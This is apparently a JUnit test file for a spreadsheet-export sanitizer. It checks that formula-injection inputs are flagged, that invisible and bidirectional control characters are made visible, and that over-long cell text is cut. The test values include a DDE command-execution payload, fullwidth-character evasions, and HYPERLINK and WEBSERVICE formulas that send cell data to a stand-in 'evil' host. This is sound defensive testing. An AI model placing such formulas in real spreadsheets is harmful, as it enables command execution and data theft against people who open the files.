package io.quittance.report.xlsx;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeTextTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1",
                "\n=1",
                "\0=1",
                ";=1",
                "|calc",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(A1)",
                "=HYPERLINK(\"http://evil/\"&A1)",
                "=WEBSERVICE(\"http://evil\")"
            })
    void whatCouldBecomeAFormulaIsKnown(String text) {
        assertThat(SafeText.looksLikeFormula(text)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Ana Ribeiro", "\"=1\"", "1+1", "2026-114", "(1.00)", "’=1"})
    void whatCannotStaysPlain(String text) {
        assertThat(SafeText.looksLikeFormula(text)).isFalse();
    }

    /** Java escapes on both sides, since the characters cannot be seen. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "plain                 | plain",
                "tab\\u0009here        | tab\\u2409here",
                "line\\u000Dend\\u000A | line\\u240Dend\\u240A",
                "nul\\u0000            | nul\\u2400",
                "del\\u007F            | del<U+007F>",
                "rtl\\u202Efdp         | rtl<U+202E>fdp",
                "iso\\u2066late        | iso<U+2066>late",
                "bom\\uFEFF            | bom<U+FEFF>",
                "half\\uD83D           | half<U+D83D>",
                "face\\uD83D\\uDE00    | face\\uD83D\\uDE00",
                "zwnj\\u200Cname       | zwnj\\u200Cname",
                "not\\uFFFFchar        | not<U+FFFF>char",
                "_x003D_1+1            | _x005F_x003D_1+1",
                "_x_                   | _x_",
            })
    void whatCannotBeSeenIsShown(String read, String written) {
        assertThat(SafeText.of(unescape(read))).isEqualTo(unescape(written));
    }

    private static String unescape(String text) {
        var plain = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {
            if (text.startsWith("\\u", i)) {
                plain.append((char) Integer.parseInt(text, i + 2, i + 6, 16));
                i += 5;
            } else {
                plain.append(text.charAt(i));
            }
        }
        return plain.toString();
    }

    @ParameterizedTest
    @CsvSource({"32767, 32767, false", "32768, 32767, true", "100000, 32767, true"})
    void tooLongIsCutVisibly(int length, int written, boolean cut) {
        String text = SafeText.of("x".repeat(length));
        assertThat(text).hasSize(written);
        assertThat(text.endsWith(" ... [cut: " + length + " characters]")).isEqualTo(cut);
    }

    @Test
    void aCutNeverHalvesACharacter() {
        String faces = SafeText.of("\uD83D\uDE00".repeat(20_000));
        assertThat(faces.codePoints().filter(point -> point >= 0xD800 && point <= 0xDFFF))
                .isEmpty();
        assertThat(SafeText.of("x" + faces).codePoints().filter(point -> point >= 0xD800 && point <= 0xDFFF))
                .isEmpty();
    }
}
